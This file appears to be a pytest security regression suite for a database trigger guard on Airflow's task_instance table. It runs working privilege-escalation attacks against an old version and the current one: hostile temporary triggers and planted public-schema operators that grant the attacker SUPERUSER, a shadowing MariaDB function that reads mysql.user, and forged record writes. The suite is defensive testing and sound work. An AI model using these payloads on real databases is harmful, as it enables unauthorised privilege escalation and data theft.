"""Attacks on the guard as an unprivileged role or account (SECURITY.md), each also run against
the SQL of an earlier version where it succeeded (tests/security/*-VERSION-install.sql, installed as a DBA
would): 0.4.0, or commit aa2823e for the duration test added after 0.5.0. That is what shows each
test can fail.

PostgreSQL: the guard function runs as its owner (SECURITY DEFINER, for the record), so nothing in
it may resolve a name through a path a caller controls: temporary objects, a dropped record, an
operator in a schema others can create in; and nobody may call it but its triggers. The bypass
and the record: a session cannot lift the guard by a value it sets itself, cannot write or forge
records, and cannot make another writer's refusal wait on the record.
"""

from __future__ import annotations

import contextlib
import subprocess
import uuid
from datetime import datetime, timezone
from pathlib import Path

import pytest
import sqlalchemy as sa

from ti_guard import airflow_writes as aw
from ti_guard import cli
from ti_guard.db import make_engine, run_sql
from ti_guard.policy import COUNTS_TABLE, RECORD_ROWS, RECORD_TABLE, Policy
from ti_guard.runtime import bypass

from conftest import SESSION, one_line_error, sees_statement

BASELINE = Path(__file__).parent / "security"
T0 = datetime(2026, 1, 1, tzinfo=timezone.utc)


# --- helpers ---------------------------------------------------------------------------


def _run_file(db, path: Path) -> None:
    """Install a SQL file as a DBA would, with the server's own client."""
    url = sa.engine.make_url(db.url)
    if db.backend == "postgresql":
        cmd = ["psql", "-X", "-q", "-v", "ON_ERROR_STOP=1", f"postgresql://{url.username}@{url.host}:{url.port or 5432}/{url.database}", "-f", str(path)]
        stdin = None
    else:
        cmd = ["mariadb", f"-u{url.username}", f"-h{url.host}", f"-P{url.port or 3306}", url.database]
        stdin = path.read_text()
    result = subprocess.run(cmd, input=stdin, capture_output=True, text=True, timeout=120)
    assert result.returncode == 0, result.stderr


def _install(db, version: str, mode: str = "ignore") -> None:
    """Today's guard through the CLI, or an earlier one from its sql/ file (mode ignore)."""
    if version == "today":
        db.install(mode=mode)
    else:
        _run_file(db, BASELINE / f"{db.backend}-{version}-install.sql")


def _seed(db, table, rows: int = 1, state: str = "success") -> None:
    with db.engine.begin() as conn:
        conn.execute(table.delete())
        conn.execute(
            table.insert(),
            [
                dict(id=str(uuid.uuid4()), dag_id="d", task_id=f"t{i}", run_id="r", map_index=-1, state=state, start_date=T0, end_date=T0, try_number=1)
                for i in range(rows)
            ],
        )


def _state(db, table, task="t0"):
    with db.engine.connect() as conn:
        return conn.execute(sa.select(table.c.state).where(table.c.task_id == task)).scalar()


def _racy(table, tasks=("t0",)):
    return aw.racy_skip(table, "d", "r", [(t, -1) for t in tasks])


def _superuser(db, role: str) -> bool:
    with db.engine.connect() as conn:
        return bool(conn.execute(sa.text("SELECT rolsuper FROM pg_roles WHERE rolname = :r"), {"r": role}).scalar())


@contextlib.contextmanager
def _pg_role(db, *grants: str):
    """A LOGIN role holding nothing but `grants` ({r} is its quoted name); dropped afterwards."""
    name = f"{SESSION}_{uuid.uuid4().hex[:4]}"
    who = db.engine.dialect.identifier_preparer.quote(name)
    db.sql("GRANT USAGE ON SCHEMA public TO PUBLIC")  # as PostgreSQL ships public (the fixture re-creates it)
    db.sql(f"CREATE ROLE {who} LOGIN")
    for grant in grants:
        db.sql(grant.format(r=who))
    engine = make_engine(sa.engine.make_url(db.url).set(username=name).render_as_string(hide_password=False), isolation_level="AUTOCOMMIT")
    try:
        yield name, engine
    finally:
        engine.dispose()
        with db.engine.connect() as conn:
            run_sql(conn, f"SELECT pg_terminate_backend(pid) FROM pg_stat_activity WHERE usename = '{name}'")
            conn.commit()
        db.sql(f"DROP OWNED BY {who} CASCADE")
        db.sql(f"DROP ROLE {who}")


def _guard_function(db) -> str:
    with db.engine.connect() as conn:
        return run_sql(conn, "SELECT proname FROM pg_proc WHERE proname LIKE 'ti_guard_guard_%'").scalar()


def _evil(owner_check: str) -> str:
    """A trigger function the attacker owns: whatever role runs it tries to make the attacker superuser."""
    return (
        "CREATE FUNCTION pg_temp.evil() RETURNS trigger LANGUAGE plpgsql AS $$ BEGIN "
        f"EXECUTE format('ALTER ROLE %I SUPERUSER', {owner_check}); RETURN NEW; "
        "EXCEPTION WHEN insufficient_privilege THEN RETURN NEW; END $$"
    )


_TEMP_RECORD = (
    "CREATE TEMP SEQUENCE ti_guard_refusal_seq",
    "CREATE TEMP TABLE ti_guard_refusals (slot int PRIMARY KEY, seq numeric, refused_at timestamp, rule text, action text, "
    "old_state text, new_state text, dag_id text, task_id text, run_id text, map_index int, writer_user text, "
    "writer_application text, writer_address text, writer_pid bigint)",
    "INSERT INTO ti_guard_refusals (slot) SELECT generate_series(0, 9999)",
    "CREATE TEMP TABLE ti_guard_refusal_counts (day date, rule text, action text, old_state text, new_state text, "
    "connection_id bigint, bucket int, refusals bigint, PRIMARY KEY (day, rule, action, old_state, new_state, connection_id, bucket))",
)


def _plant_operator(engine, attacker: str, op: str, left: str, right: str, returns: str, result: str) -> None:
    """As the attacker: `public.<op>(left, right)`, which returns `result` and, run by a role that may,
    makes the attacker superuser (public is open to CREATE: PostgreSQL 13/14's default)."""
    fn = f"public.evil_{left}_{right}"
    with engine.connect() as conn:
        run_sql(
            conn,
            f"CREATE FUNCTION {fn}({left}, {right}) RETURNS {returns} LANGUAGE plpgsql AS $$ BEGIN "
            f"EXECUTE format('ALTER ROLE %I SUPERUSER', '{attacker}'); RETURN {result}; "
            f"EXCEPTION WHEN insufficient_privilege THEN RETURN {result}; END $$",
        )
        run_sql(conn, f"CREATE OPERATOR public.{op} (LEFTARG = {left}, RIGHTARG = {right}, FUNCTION = {fn})")


def _temp_record_with_evil_trigger(conn, attacker: str) -> None:
    for statement in _TEMP_RECORD:
        run_sql(conn, statement)
    run_sql(conn, _evil(f"'{attacker}'"))
    run_sql(conn, "CREATE TRIGGER evil BEFORE INSERT OR UPDATE ON pg_temp.ti_guard_refusal_counts FOR EACH ROW EXECUTE FUNCTION pg_temp.evil()")
    run_sql(conn, "CREATE TRIGGER evil BEFORE UPDATE ON pg_temp.ti_guard_refusals FOR EACH ROW EXECUTE FUNCTION pg_temp.evil()")


# --- PostgreSQL: the function that runs as its owner ---------------------------------------


@pytest.mark.parametrize("version", ["0.4.0", "today"])
def test_pg_a_role_that_can_only_connect_cannot_run_the_guard_as_its_owner(pg_db, version):
    """The review's attack: a temporary task_instance, temporary record tables with a trigger of the
    attacker's, the guard function attached to the temporary table, one UPDATE."""
    pg_db.table()
    _install(pg_db, version)
    fn = _guard_function(pg_db)
    with _pg_role(pg_db) as (attacker, engine), engine.connect() as conn:
        run_sql(conn, "CREATE TEMP TABLE task_instance (id text, dag_id text, task_id text, run_id text, map_index int, state text, start_date timestamptz, end_date timestamptz)")
        _temp_record_with_evil_trigger(conn, attacker)
        try:
            run_sql(conn, f"CREATE TRIGGER attach BEFORE UPDATE OF start_date ON pg_temp.task_instance FOR EACH ROW EXECUTE FUNCTION public.{fn}('keep', 'racy_skip')")
        except sa.exc.ProgrammingError as exc:
            assert version == "today" and "permission denied for function" in str(exc.orig)
        else:
            run_sql(conn, "INSERT INTO pg_temp.task_instance VALUES ('1', 'd', 't', 'r', -1, 'success', now(), now())")
            run_sql(conn, "UPDATE pg_temp.task_instance SET state = 'skipped', start_date = now(), end_date = now()")
        assert _superuser(pg_db, attacker) == (version == "0.4.0")


def test_pg_even_with_execute_granted_back_the_function_acts_on_the_guarded_table_only(pg_db, capsys):
    """A DBA who grants EXECUTE back (or a later release that forgets the REVOKE): attached to any
    other table the function does nothing; status flags the grant and install revokes it."""
    table = pg_db.table()
    pg_db.install(mode="ignore")
    fn = _guard_function(pg_db)
    pg_db.sql(f"GRANT EXECUTE ON FUNCTION public.{fn}() TO PUBLIC")
    assert pg_db.cli("status") == 1 and "EXECUTE had been granted to PUBLIC" in capsys.readouterr().out
    with _pg_role(pg_db) as (attacker, engine), engine.connect() as conn:
        run_sql(conn, "CREATE TEMP TABLE task_instance (id text, dag_id text, task_id text, run_id text, map_index int, state text, start_date timestamptz, end_date timestamptz)")
        _temp_record_with_evil_trigger(conn, attacker)
        run_sql(conn, f"CREATE TRIGGER attach BEFORE UPDATE OF start_date ON pg_temp.task_instance FOR EACH ROW EXECUTE FUNCTION public.{fn}('keep', 'racy_skip')")
        run_sql(conn, "INSERT INTO pg_temp.task_instance VALUES ('1', 'd', 't', 'r', -1, 'success', now(), now())")
        run_sql(conn, "UPDATE pg_temp.task_instance SET state = 'skipped', start_date = now(), end_date = now()")
        # The function let the temporary row through untouched (not kept: it is not the guarded table).
        assert run_sql(conn, "SELECT state FROM pg_temp.task_instance").scalar() == "skipped"
        assert run_sql(conn, "SELECT count(*) FROM pg_temp.ti_guard_refusal_counts").scalar() == 0
        assert not _superuser(pg_db, attacker)
    assert pg_db.cli("install") == 0 and pg_db.cli("status") == 0
    _seed(pg_db, table)
    with pg_db.engine.begin() as conn:
        conn.execute(_racy(table))
    assert _state(pg_db, table) == "success"  # still guards


@pytest.mark.parametrize("version", ["0.4.0", "today"])
def test_pg_a_dropped_record_is_not_looked_up_in_the_writers_temporary_schema(pg_db, version):
    """An account that may only UPDATE task_instance, with the record dropped by hand (docs/operations.md
    allows it): a refused racy skip on the real table must not write the attacker's temporary tables."""
    table = pg_db.table()
    _install(pg_db, version)
    _seed(pg_db, table)
    pg_db.sql(f"DROP TABLE {RECORD_TABLE}, {COUNTS_TABLE}; DROP SEQUENCE ti_guard_refusal_seq")
    with _pg_role(pg_db, "GRANT SELECT, UPDATE ON task_instance TO {r}") as (attacker, engine), engine.connect() as conn:
        _temp_record_with_evil_trigger(conn, attacker)
        conn.execute(_racy(table))
        recorded = run_sql(conn, "SELECT count(*) FROM pg_temp.ti_guard_refusal_counts").scalar()
        assert (recorded, _superuser(pg_db, attacker)) == ((1, True) if version == "0.4.0" else (0, False))
    assert _state(pg_db, table) == "success"  # the guard kept the row either way


@pytest.mark.parametrize("version", ["0.4.0", "today"])
def test_pg_an_operator_in_a_schema_others_can_create_in_is_never_used(pg_db, version):
    """PostgreSQL 13/14 let every role CREATE in public: an exact-match `%` (or `=`) there would win
    over pg_catalog's and run as the guard's owner (or as Airflow's account) on an ordinary refusal."""
    table = pg_db.table()
    pg_db.sql("GRANT CREATE ON SCHEMA public TO PUBLIC")
    with _pg_role(pg_db) as (attacker, engine):
        _plant_operator(engine, attacker, "%", "bigint", "integer", "bigint", "mod($1, $2::bigint)")
        _install(pg_db, version)
        _seed(pg_db, table)
        with pg_db.engine.begin() as conn:  # an ordinary refusal, by another account (here the owner)
            conn.execute(_racy(table))
        assert _state(pg_db, table) == "success"
        assert _superuser(pg_db, attacker) == (version == "0.4.0")


@pytest.mark.parametrize("version", ["0.4.0", "today"])
def test_pg_an_equality_operator_planted_before_install_is_not_bound_into_the_triggers(pg_db, version):
    """The triggers' WHEN is bound when install runs, through the installer's search_path: an
    exact-match `=` for varchar in public would be bound into it and run as whoever writes the row."""
    table = pg_db.table()
    pg_db.sql("GRANT CREATE ON SCHEMA public TO PUBLIC")
    with _pg_role(pg_db) as (attacker, engine):
        _plant_operator(engine, attacker, "=", "varchar", "varchar", "boolean", "$1::text = $2::text")
        _install(pg_db, version)
        _seed(pg_db, table)
        with pg_db.engine.begin() as conn:  # the racy route, its ids compared as text (no varchar = varchar of its own)
            run_sql(conn, "UPDATE task_instance SET state = 'skipped', start_date = now(), end_date = now() WHERE task_id::text = 't0'")
        assert _state(pg_db, table) == "success"
        assert _superuser(pg_db, attacker) == (version == "0.4.0")


@pytest.mark.parametrize("version", ["aa2823e", "today"])
def test_pg_an_equality_operator_for_the_duration_test_planted_before_install_is_not_bound(pg_db, version):
    """stale_set_state_skip tells set_state from the racy routes by duration, and `duration IS NOT
    DISTINCT FROM 0` against an integer literal binds an exact-match `=(float8, integer)` from the
    installer's search_path into the WHEN, run as whoever writes the row. Before the fix (commit
    aa2823e, unreleased) it did; today the literal is float8, where pg_catalog's `=` matches exactly."""
    table = pg_db.table()
    pg_db.sql("GRANT CREATE ON SCHEMA public TO PUBLIC")
    with _pg_role(pg_db) as (attacker, engine):
        _plant_operator(engine, attacker, "=", "float8", "integer", "boolean", "$1 = $2::float8")
        _install(pg_db, version)
        _seed(pg_db, table)
        with pg_db.engine.begin() as conn:  # a finished task has a duration, so the test reaches the operator
            conn.execute(table.update().values(duration=42.0))
            conn.execute(_racy(table))
        assert _state(pg_db, table) == "success"
        assert _superuser(pg_db, attacker) == (version == "aa2823e")


@pytest.mark.parametrize("version", ["0.4.0", "today"])
def test_pg_a_session_cannot_lift_the_guard_by_setting_the_bypass_itself(pg_db, version):
    """`PGOPTIONS='-c ti_guard.bypass=on'` or SET LOCAL, by an account that may UPDATE task_instance
    but could not drop the guard (no TRIGGER): the guard goes on refusing."""
    table = pg_db.table()
    _install(pg_db, version)
    _seed(pg_db, table)
    with _pg_role(pg_db, "GRANT SELECT, UPDATE ON task_instance TO {r}") as (name, _):
        url = sa.engine.make_url(pg_db.url).set(username=name).render_as_string(hide_password=False)
        engine = sa.create_engine(url, connect_args={"options": "-c ti_guard.bypass=on"})
        try:
            with engine.begin() as conn:
                conn.execute(_racy(table))
        finally:
            engine.dispose()
    assert _state(pg_db, table) == ("skipped" if version == "0.4.0" else "success")


# --- MySQL / MariaDB: the trigger's DEFINER ------------------------------------------------


@contextlib.contextmanager
def _account(db, *privileges: str):
    """An account holding `privileges` on task_instance only (plus CREATE TEMPORARY TABLES on the
    database when asked, MySQL), logged in through an engine of its own: yields (url, engine)."""
    table_privs = [p for p in privileges if p != "CREATE TEMPORARY TABLES"]
    with db.account(tuple(table_privs)) as url:
        if "CREATE TEMPORARY TABLES" in privileges:
            name = sa.engine.make_url(url).username
            db.sql(f"GRANT CREATE TEMPORARY TABLES ON `{SESSION}`.* TO `{name}`@'%'")
        engine = make_engine(url)
        try:
            yield url, engine
        finally:
            engine.dispose()


@pytest.mark.parametrize("version", ["0.4.0", "today"])
def test_mysql_a_session_cannot_lift_the_guard_by_setting_variables_itself(mysql_db, version):
    """0.4.0 trusted a memo in user variables that the writing statement itself can set: an
    account with only SELECT and UPDATE bypassed the guard unrecorded. Today the variable asks; the
    account's TRIGGER grant, read as the DEFINER, decides. Shadowing every table the trigger names
    with TEMPORARY tables does not change the decision either."""
    table = mysql_db.table()
    _install(mysql_db, version)
    _seed(mysql_db, table)
    with _account(mysql_db, "SELECT", "UPDATE", "CREATE TEMPORARY TABLES") as (_, engine), engine.connect() as conn:
        for name in ("ti_guard_refusals", "ti_guard_refusal_counts", "ti_guard_settings"):
            run_sql(conn, f"CREATE TEMPORARY TABLE {name} (x int)")
        with pytest.raises(sa.exc.DBAPIError):
            run_sql(conn, "CREATE TEMPORARY TABLE information_schema.USER_PRIVILEGES (GRANTEE text, PRIVILEGE_TYPE text)")
        conn.rollback()
        stamp = aw.now().replace(tzinfo=None)
        conn.execute(
            sa.text(
                "UPDATE task_instance SET start_date = :t, end_date = :t, state = IF("
                "(@ti_guard_bypass := 'on') IS NOT NULL AND (@ti_guard_granted := TRUE) IS NOT NULL "
                "AND (@ti_guard_bypass_at := CONCAT(@ti_guard_bypass, '@', NOW(6))) IS NOT NULL, 'skipped', 'skipped') "
                "WHERE dag_id = 'd' AND task_id = 't0'"
            ),
            {"t": stamp},
        )
        if version == "0.4.0":  # its memo: the variable holding "a verified transaction id" for NOW(6)
            conn.execute(
                sa.text(
                    "UPDATE task_instance SET start_date = :t, end_date = :t, state = IF("
                    "(@ti_guard_bypass := 1) IS NOT NULL AND (@ti_guard_bypass_at := CONCAT(1, '@', NOW(6))) IS NOT NULL, 'skipped', 'skipped') "
                    "WHERE dag_id = 'd' AND task_id = 't0'"
                ),
                {"t": stamp},
            )
        conn.commit()
    assert _state(mysql_db, table) == ("skipped" if version == "0.4.0" else "success")


def test_the_bypass_counts_only_for_an_account_with_trigger_on_the_table(server_db):
    """The bypass is a permission: an account that may UPDATE the table but holds no TRIGGER on it
    asks for it in vain (the row is kept); after GRANT TRIGGER the same repair goes through."""
    table = server_db.table()
    server_db.install(mode="ignore")
    _seed(server_db, table)
    with _account(server_db, "SELECT", "UPDATE") as (url, engine):
        for expected in ("success", "skipped"):
            with engine.connect() as conn, conn.begin(), bypass(conn, Policy.build()):
                conn.execute(_racy(table))
            assert _state(server_db, table) == expected
            name = sa.engine.make_url(url).username
            target, who = (f"`{SESSION}`.task_instance", f"`{name}`@'%'") if server_db.backend == "mysql" else ("task_instance", f'"{name}"')
            server_db.sql(f"GRANT TRIGGER ON {target} TO {who}")


def test_set_state_says_when_the_guard_kept_the_row(pg_db, capsys):
    """set-state as an account without TRIGGER, where the guard keeps its write (a running task
    instance set to skipped with its end date: set_state_skip): one line, exit 2, nothing changed."""
    table = pg_db.table()
    pg_db.install(mode="ignore")
    with pg_db.engine.begin() as conn:
        conn.execute(table.insert().values(id=str(uuid.uuid4()), dag_id="d", task_id="t0", run_id="r", map_index=-1, state="running", start_date=T0, end_date=T0, try_number=1))
    args = ["set-state", "--dag-id", "d", "--task-id", "t0", "--run-id", "r", "--state", "skipped"]
    with pg_db.account(("SELECT", "UPDATE")) as url:
        assert cli.main([*args, "--url", url]) == 2
        one_line_error(capsys, "the bypass counts only for an account with TRIGGER on task_instance", "nothing was changed")
        assert _state(pg_db, table) == "running"
        assert cli.main([*args, "--url", pg_db.url]) == 0  # the owner holds TRIGGER
    assert _state(pg_db, table) == "skipped"


# --- The record: no waits, no growth with connections ----------------------------------------


@pytest.mark.parametrize("version", ["0.4.0", "today"])
def test_a_transaction_holding_every_ring_slot_does_not_make_another_refusal_wait(server_db, version):
    """One transaction refuses as many rows as the ring has slots and stays open; a refusal in
    another transaction must go through at once, its count recorded (0.4.0: it waited on a slot)."""
    table = server_db.table()
    _install(server_db, version)
    _seed(server_db, table, rows=RECORD_ROWS + 1)
    holder = make_engine(server_db.url)
    everything_but_the_last = (
        sa.update(table).where(table.c.task_id != f"t{RECORD_ROWS}").values(state="skipped", start_date=aw.now(), end_date=aw.now())
    )
    lock_wait = "SET lock_timeout = '3s'" if server_db.backend == "postgresql" else "SET SESSION innodb_lock_wait_timeout = 3"
    try:
        with holder.connect() as held:
            if server_db.backend == "mysql":  # as Airflow sets it on MySQL (under REPEATABLE READ the scan alone waits)
                held.exec_driver_sql("SET SESSION TRANSACTION ISOLATION LEVEL READ COMMITTED")
            held.execute(everything_but_the_last)  # the racy skip route's shape; open, not committed
            with server_db.engine.connect() as other:
                other.exec_driver_sql(lock_wait)
                if server_db.backend == "mysql":
                    other.exec_driver_sql("SET SESSION TRANSACTION ISOLATION LEVEL READ COMMITTED")
                try:
                    other.execute(_racy(table, [f"t{RECORD_ROWS}"]))
                    other.commit()
                    waited = False
                except sa.exc.DBAPIError as exc:
                    assert "lock" in str(exc.orig).lower(), exc
                    other.rollback()
                    waited = True
            held.rollback()
    finally:
        holder.dispose()
    assert waited == (version == "0.4.0")
    if not waited:
        with server_db.engine.connect() as conn:
            counts = sa.Table(COUNTS_TABLE, sa.MetaData(), autoload_with=conn)
            assert conn.execute(sa.select(sa.func.sum(counts.c.refusals))).scalar() == 1


@pytest.mark.parametrize("version", ["0.4.0", "today"])
def test_counter_rows_do_not_grow_with_each_new_connection(server_db, version):
    """Five connections one after another, each refusing more rows than there are counter buckets:
    0.4.0 kept rows per connection (5 x 1,000); today they share the free lane."""
    table = server_db.table()
    _install(server_db, version)
    rows = 1200
    _seed(server_db, table, rows=rows)
    for _ in range(5):
        engine = make_engine(server_db.url)
        try:
            with engine.connect() as conn:
                conn.execute(sa.update(table).values(state="skipped", start_date=aw.now(), end_date=aw.now()))
                conn.commit()
        finally:
            engine.dispose()
    with server_db.engine.connect() as conn:
        counts = sa.Table(COUNTS_TABLE, sa.MetaData(), autoload_with=conn)
        total, kept_rows, lanes = conn.execute(
            sa.select(sa.func.sum(counts.c.refusals), sa.func.count(), sa.func.count(counts.c.connection_id.distinct()))
        ).one()
    assert total == 5 * rows  # exact either way
    assert (lanes, kept_rows <= 1000) == ((5, False) if version == "0.4.0" else (1, True))


def test_pg_status_and_doctor_tell_the_truth_about_the_functions_rights(pg_db, capsys):
    """0.4.0's function (SECURITY DEFINER, EXECUTE left to PUBLIC, search_path from the table it
    fires on) is critical for status and doctor; install replaces it and both then say so."""
    pg_db.table()
    _install(pg_db, "0.4.0")
    capsys.readouterr()
    assert pg_db.cli("status") == 2
    assert "lets any role that can connect run its own code as the function's owner" in capsys.readouterr().out
    assert pg_db.cli("doctor") == 2
    assert "[FAIL] rights: function ti_guard_guard_a3e66481: SECURITY DEFINER" in capsys.readouterr().out
    assert pg_db.cli("install") == 0 and pg_db.cli("status") == 0
    capsys.readouterr()
    pg_db.cli("doctor")
    rights = [line for line in capsys.readouterr().out.splitlines() if "rights:" in line]
    assert len(rights) == 1 and rights[0].strip().startswith("[ok]"), rights
    assert "SECURITY DEFINER" in rights[0] and "search_path=pg_catalog, pg_temp" in rights[0] and "EXECUTE not granted to PUBLIC" in rights[0]


def test_pg_the_offline_sql_installs_in_the_dba_sessions_schema_and_nowhere_else(pg_db, capsys):
    """sql/postgresql/install.sql names no schema: run with Airflow's schema first in search_path it
    installs there, its function naming that schema (status agrees); run where the current schema
    holds no task_instance it stops with one line and makes nothing."""
    pg_db.sql('CREATE SCHEMA "Air flow"')
    pg_db.table(schema="Air flow")
    path = Path(__file__).parent.parent / "sql" / "postgresql" / "install.sql"
    url = sa.engine.make_url(pg_db.url)
    conninfo = f"postgresql://{url.username}@{url.host}:{url.port or 5432}/{url.database}"
    refused = subprocess.run(["psql", "-X", "-q", "-v", "ON_ERROR_STOP=1", conninfo, "-f", str(path)], capture_output=True, text=True, timeout=60)
    assert refused.returncode != 0 and "ti_guard: no table task_instance in the current schema public" in refused.stderr
    with pg_db.engine.connect() as conn:
        assert run_sql(conn, "SELECT count(*) FROM pg_class WHERE relname LIKE 'ti_guard%'").scalar() == 0  # nothing made
    done = subprocess.run(
        ["psql", "-X", "-q", "-v", "ON_ERROR_STOP=1", conninfo, "-c", 'SET search_path TO "Air flow"', "-f", str(path)],
        capture_output=True, text=True, timeout=60,
    )
    assert done.returncode == 0, done.stderr
    assert pg_db.cli("status", "--schema=Air flow") == 0, capsys.readouterr().out
    with pg_db.engine.connect() as conn:
        body = run_sql(conn, "SELECT prosrc FROM pg_proc WHERE proname LIKE 'ti_guard_guard_%'").scalar()
    assert '"Air flow".ti_guard_refusals' in body and "@ti_guard_schema" not in body


def test_no_account_but_the_guard_writes_the_record(server_db):
    """An account that may UPDATE task_instance (Airflow's rights) cannot write, and so cannot forge
    or erase, the record; its refusals are recorded all the same."""
    table = server_db.table()
    server_db.install(mode="ignore")
    _seed(server_db, table)
    with _account(server_db, "SELECT", "UPDATE") as (_, engine):
        for forge in (
            f"UPDATE {RECORD_TABLE} SET dag_id = 'forged', rule = 'stale_schedule' WHERE slot = 1",
            f"DELETE FROM {COUNTS_TABLE}",
            f"INSERT INTO {COUNTS_TABLE} (day, rule, action, old_state, new_state, connection_id, bucket, refusals) "
            "VALUES ('2026-01-01', 'racy_skip', 'keep', 'running', 'skipped', 0, 0, 1000)",
        ):
            with pytest.raises(sa.exc.DBAPIError, match="(?i)denied"):
                with engine.begin() as conn:
                    run_sql(conn, forge)
        with engine.begin() as conn:
            conn.execute(_racy(table))
    with server_db.engine.connect() as conn:
        assert run_sql(conn, f"SELECT dag_id, rule FROM {RECORD_TABLE} WHERE seq IS NOT NULL").all() == [("d", "racy_skip")]
        assert run_sql(conn, f"SELECT SUM(refusals) FROM {COUNTS_TABLE}").scalar() == 1


PLANTED = (
    "CREATE FUNCTION PS_CURRENT_THREAD_ID() RETURNS BIGINT SQL SECURITY INVOKER READS SQL DATA "
    "BEGIN SET @loot = (SELECT COUNT(*) FROM mysql.user); RETURN 0; END"
)


@pytest.mark.parametrize("trigger", ["naming PS_CURRENT_THREAD_ID()", "today"])
def test_mysql_the_statement_is_read_through_no_name_a_writer_controls(mysql_db, trigger):
    """set_state_skip's trigger reads the writer's statement from performance_schema as its DEFINER.
    An account with Airflow's rights plus CREATE ROUTINE and CREATE TEMPORARY TABLES on the database
    plants a stored function PS_CURRENT_THREAD_ID() (MariaDB has no such built-in: a trigger naming it
    calls the planted one with the DEFINER's rights, the first leg, which reads mysql.user), shadows
    the tables the guard reads with temporary ones and sets the guard's variables in its own
    statement. Today's guard calls none of it and decides by the account's own statement."""
    table = mysql_db.table()
    with mysql_db.engine.begin() as conn:
        conn.execute(table.insert().values(id="0" * 31 + "1", dag_id="d", task_id="t0", run_id="r", state="running", start_date=T0, try_number=1))
    if trigger == "today":
        mysql_db.install()
    else:
        mysql_db.sql("CREATE TRIGGER naive BEFORE UPDATE ON task_instance FOR EACH ROW SET @ti_guard_thread = PS_CURRENT_THREAD_ID()")
    with _account(mysql_db, "SELECT", "UPDATE", "CREATE TEMPORARY TABLES") as (url, engine), mysql_db.trusting_function_creators():
        name = sa.engine.make_url(url).username
        mysql_db.sql(f"GRANT CREATE ROUTINE ON `{SESSION}`.* TO `{name}`@'%'")
        with engine.connect() as conn:
            with pytest.raises(sa.exc.DBAPIError, match="(?i)denied"):
                run_sql(conn, "SELECT COUNT(*) FROM mysql.user")
            for shadow in ("CREATE TEMPORARY TABLE performance_schema.threads (THREAD_ID bigint)",
                           "SELECT COUNT(*) FROM performance_schema.events_statements_current"):
                with pytest.raises(sa.exc.DBAPIError, match="(?i)denied"):
                    run_sql(conn, shadow)
            run_sql(conn, PLANTED)
            for shadow in ("threads", "events_statements_current"):
                run_sql(conn, f"CREATE TEMPORARY TABLE {shadow} (THREAD_ID bigint, PROCESSLIST_ID bigint, SQL_TEXT text, NESTING_EVENT_LEVEL int, END_EVENT_ID bigint)")
            conn.commit()
            conn.exec_driver_sql(
                "UPDATE task_instance SET end_date = '2026-12-04 10:00:00', duration = 1.0, state = IF("
                "(@ti_guard_set_state := TRUE) AND (@ti_guard_statement := 'UPDATE t SET next_method = 1 WHERE') IS NOT NULL, 'skipped', 'skipped') "
                "WHERE dag_id = 'd'"
            )
            conn.commit()
            loot = conn.exec_driver_sql("SELECT @loot").scalar()
    naive_on_mariadb = trigger != "today" and mysql_db.server == "mysql"
    # MariaDB resolves the name to the planted function and runs it as the DEFINER; MySQL calls its built-in.
    assert (loot is not None) == naive_on_mariadb, loot
    if trigger == "today":  # set_state's shape, whatever the session set: kept where the statement is read
        assert _state(mysql_db, table) == ("running" if sees_statement(mysql_db) else "skipped")
